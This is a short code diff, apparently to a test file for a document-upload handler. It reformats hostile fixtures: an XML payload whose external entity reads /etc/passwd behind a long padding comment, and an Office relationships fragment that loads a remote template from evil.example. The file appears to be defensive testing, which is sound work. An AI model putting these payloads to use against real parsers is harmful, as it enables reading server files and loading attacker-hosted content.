@@ -12,7 +12,11 @@ from tenants.uploads.documents import MAX_ENTRIES
 
 from . import hostile
 
-DOCTYPE = b'<?xml version="1.0"?><!-- ' + b"x" * 5000 + b' --><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'
+DOCTYPE = (
+    b'<?xml version="1.0"?><!-- '
+    + b"x" * 5000
+    + b' --><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'
+)
 TEMPLATE = (
     b'<Relationships><Relationship Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
     b'attachedTemplate" Target="https://evil.example/x.dotm" TargetMode="External"/></Relationships>'
